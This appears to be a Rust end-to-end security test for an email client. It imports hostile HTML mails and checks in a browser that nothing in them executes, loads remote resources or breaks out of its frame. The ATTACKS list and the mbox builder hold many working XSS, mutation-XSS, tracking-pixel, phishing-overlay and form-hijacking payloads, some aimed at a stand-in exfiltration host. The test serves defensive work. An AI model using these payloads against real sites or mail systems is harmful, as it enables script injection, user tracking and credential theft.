//! Attack mails in a real browser: every one is opened as the HTML it came in, and nothing runs, loads or leaves its frame.

use std::fs;
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use e2e::{Browser, Stage, Start, play};

/// Somebody else's server: counts who connects.
struct Elsewhere {
    url: String,
    visits: Arc<AtomicUsize>,
}

impl Elsewhere {
    fn listen() -> Result<Elsewhere> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let url = format!("http://127.0.0.1:{}", listener.local_addr()?.port());
        let visits = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&visits);
        std::thread::spawn(move || {
            for visitor in listener.incoming().flatten() {
                count.fetch_add(1, Ordering::SeqCst);
                let _ =
                    std::io::Write::write_all(&mut &visitor, b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
            }
        });
        Ok(Elsewhere { url, visits })
    }

    fn visits(&self) -> usize {
        self.visits.load(Ordering::SeqCst)
    }
}

/// `RUN` is a script that shows it ran, `AWAY` an address elsewhere.
const ATTACKS: &[&str] = &[
    "<script>RUN</script><img src=x onerror='RUN'><svg onload='RUN'><script>RUN</script></svg><body onload='RUN'>",
    "<svg><animate onbegin='RUN' attributeName=x dur=1s></svg><details open ontoggle='RUN'>x</details><video><source onerror='RUN'></video>",
    "<style>@import 'AWAY/a.css';@font-face{font-family:f;src:url(AWAY/f)}body{background:url(AWAY/b)}.rail{display:none}</style><p style='font-family:f;background:url(AWAY/c)'>x</p>",
    "<style>input[name=text]{background:url(AWAY/d)}#reply{display:none}</style><link rel=stylesheet href='AWAY/e.css'><link rel=preload as=image href='AWAY/p'><link rel=dns-prefetch href='AWAY'><link rel=preconnect href='AWAY'>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>Your session ended</div><table width=99999 cellpadding=9999><td colspan=99999 rowspan=99999>x</table>",
    "<img src='AWAY/1.gif' width=1 height=1><img srcset='AWAY/2 2x'><picture><source srcset='AWAY/3'><img src='AWAY/4'></picture><video poster='AWAY/5' src='AWAY/6' autoplay></video><audio src='AWAY/7' autoplay></audio><input type=image src='AWAY/8'><table background='AWAY/9'><td background='AWAY/10'>x</table><svg><image href='AWAY/11'/><use href='AWAY/12#x'/></svg><bgsound src='AWAY/13'><embed src='AWAY/14'><object data='AWAY/15'></object>",
    "<meta http-equiv=refresh content='0;url=AWAY/refresh'><base href='AWAY/'><base target=_top><iframe src='AWAY/frame'></iframe><iframe srcdoc='<script>parent.RUN</script>'></iframe><frameset onload='RUN'><frame src='AWAY/f'></frameset>",
    "<form action='AWAY/form' id=reply><input name=passphrase autofocus onfocus='RUN'><button formaction='javascript:RUN'>Send</button></form><button form=reply formaction='AWAY/steal'>Log in</button></form></form>",
    "<div id=thread class='live note btn card said ours' hx-get='/logout' hx-trigger='load' hx-on:load='RUN' hx-on--load='RUN' data-key=r data-auto>x</div><div hx-get='AWAY/hx' hx-trigger=load>y</div><a id=reply name=body href=x>z</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\"><template><img src=x onerror=RUN></template>",
    "<svg></p><style><a title=\"</style><img src onerror=RUN>\"><svg><desc><noscript><p title=\"</noscript></desc></svg><img src onerror=RUN>\">",
    "<svg><foreignObject><math><mi><mglyph><svg><mtext><style><path id=\"</style><img onerror=RUN src>\">",
    "</div></div></article></div></main></body></html><h1>Log in again</h1><plaintext></div><script>RUN</script>",
    "<a href='javascript:RUN'>a</a><a href=' &#14; javascript:RUN'>b</a><a href='java&Tab;script:RUN'>c</a><a href='data:text/html,<script>RUN</script>'>d</a><a href='AWAY/link' ping='AWAY/ping'>e</a><area href='javascript:RUN'>",
    "<img src='cid:drawing@x'><img src='data:image/svg+xml,<svg onload=RUN>'><object data='cid:page@x'></object><iframe src='cid:page@x'></iframe>",
];

const RUN: &str = "window.kept_attacked=1;alert(1)";

/// An mbox of all attacks, each with a hostile sender and subject, and files that are programs.
fn mbox(elsewhere: &str) -> String {
    let run = |attack: &str| attack.replace("RUN", RUN).replace("AWAY", elsewhere);
    let mut all = String::new();
    for (n, attack) in ATTACKS.iter().enumerate() {
        let name = run("<img src=x onerror=RUN>").replace('"', "");
        all += &format!(
            "From evil@evil.example Mon Nov 23 10:{n:02}:00 2026\nFrom: \"{name}\" <evil{n}@evil.example>\nTo: hello@alder.example\n\
             Subject: attack {n} <script>{RUN}</script>\"'><img src={elsewhere}/subject>\nDate: Mon, 23 Nov 2026 10:{n:02}:00 -0500\n\
             Message-ID: <attack-{n}@evil.example>\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n\
             --b\nContent-Type: text/html; charset=utf-8\n\n<html><body>{}</body></html>\n\
             --b\nContent-Type: image/svg+xml; name=\"drawing.svg\"\nContent-ID: <drawing@x>\nContent-Disposition: inline; filename=\"drawing.svg\"\n\n\
             <svg xmlns=\"http://www.w3.org/2000/svg\"><script>{RUN}</script><image href=\"{elsewhere}/svg\"/></svg>\n\
             --b\nContent-Type: text/html; name=\"page.png\"\nContent-ID: <page@x>\nContent-Disposition: attachment; filename=\"page.png\"\n\n\
             <!doctype html><script>{RUN}</script><img src=\"{elsewhere}/page\">\n--b--\n\n",
            run(attack)
        );
    }
    all
}

/// What is wrong with the page as the browser has it now; empty when nothing is.
const FAULTS: &str = r#"
const faults = [];
if (window.kept_attacked) faults.push('a script of the mail ran');
if (document.querySelectorAll('#thread').length !== 1 || document.querySelectorAll('#reply').length !== 1) faults.push('an id of our page is taken');
if (!document.querySelector('#reply textarea[name=text]')) faults.push('the reply form is gone');
const mail = document.querySelector('.mail-html');
if (!mail) return ['the mail is not shown as HTML'];
if (!mail.closest('article.said') || document.querySelector('main').contains(mail) === false) faults.push('the mail left its frame');
const inside = [...mail.querySelectorAll('*')];
for (const e of inside) {
  const names = e.getAttributeNames();
  const tag = e.tagName.toLowerCase();
  if (['script','style','form','input','button','iframe','frame','object','embed','svg','math','video','audio','link','meta','base','template'].includes(tag)) faults.push('<' + tag + '>');
  for (const n of names) if (/^(on|hx-|data-|id$|name$|style$|srcset$|background$|ping$|formaction$|form$)/.test(n)) faults.push('<' + tag + ' ' + n + '>');
  if (e.className && !['blocked-image', 'missing-image'].includes(e.className)) faults.push('class ' + e.className);
  if (getComputedStyle(e).position !== 'static') faults.push('<' + tag + '> is not in its place');
}
for (const a of mail.querySelectorAll('a[href]')) if (!/^(https?:|mailto:|tel:)/.test(a.href)) faults.push('a link to ' + a.href);
if (document.documentElement.scrollWidth > document.documentElement.clientWidth + 1) faults.push('the mail makes the page too wide');
if (/^Log in again$/m.test([...document.querySelectorAll('h1')].filter(h => !mail.contains(h)).map(h => h.innerText).join('\n'))) faults.push('a heading of the mail outside of it');
return faults;
"#;

async fn links(browser: &Browser, selector: &str) -> Result<Vec<String>> {
    let script = format!("return [...document.querySelectorAll({selector:?})].map(a => a.getAttribute('href'))");
    let found = browser.run(&script).await?;
    let found = found.as_array().context("a list of links")?.iter();
    Ok(found.filter_map(|link| link.as_str().map(str::to_owned)).collect())
}

#[tokio::test]
async fn attack_mails_neither_run_nor_load_nor_leave_their_frame() -> Result<()> {
    play("hostile", Start::SetUp, async |stage: &Stage| {
        let elsewhere = Elsewhere::listen()?;
        let file = stage.kept.folder().join("attacks.mbox");
        fs::write(&file, mbox(&elsewhere.url))?;
        let said = stage.kept.run(&["import", "mail", &file.display().to_string(), "--json"])?;
        ensure!(said.contains(&format!("\"stored\":{}", ATTACKS.len())), "{said}");
        let browser = &stage.browser;
        stage.log_in().await?;
        browser.go("/conversations").await?;
        browser.wait_for("attack 0").await?;
        let mut opened = 0;
        for conversation in conversations(browser).await? {
            browser.go(&conversation).await?;
            let as_html = links(browser, "article a[href*='?html=']").await?;
            let as_html = as_html.first().with_context(|| format!("{conversation}: no link to the HTML"))?;
            browser.go(as_html).await?;
            tokio::time::sleep(Duration::from_millis(100)).await; // what loads by itself has begun
            let faults = browser.run(FAULTS).await?;
            ensure!(faults == serde_json::json!([]), "{}: {faults}", browser.path().await?);
            ensure!(browser.path().await?.starts_with("/conversations/"), "the mail led away");
            opened += 1;
        }
        ensure!(opened == ATTACKS.len(), "{opened} of {} were opened", ATTACKS.len());
        files_stay_files(browser).await?;
        ensure!(elsewhere.visits() == 0, "{} visits elsewhere", elsewhere.visits());
        browser.console_is_clean()?;
        browser.go(&format!("{}/proof", elsewhere.url)).await.ok(); // that visits would have been seen
        ensure!(elsewhere.visits() > 0, "the journey could not have seen a visit");
        Ok(())
    })
    .await
}

async fn conversations(browser: &Browser) -> Result<Vec<String>> {
    let mut found = links(browser, "main a[href^='/conversations/']").await?;
    found.retain(|link| !link.contains("/new") && !link.contains('?'));
    found.sort();
    found.dedup();
    Ok(found)
}

/// The drawing and the page that calls itself a picture are saved; gone to directly, neither runs.
async fn files_stay_files(browser: &Browser) -> Result<()> {
    let files = links(browser, "article a[download]").await?;
    ensure!(files.len() == 2 && files.iter().all(|link| link.starts_with("/files/")), "{files:?}");
    for file in files {
        browser.go(&file).await.ok(); // a download is no page: some drivers call that a failure
        let ran = browser.run("return window.kept_attacked === 1").await?;
        ensure!(ran == false, "{file} ran");
    }
    Ok(())
}
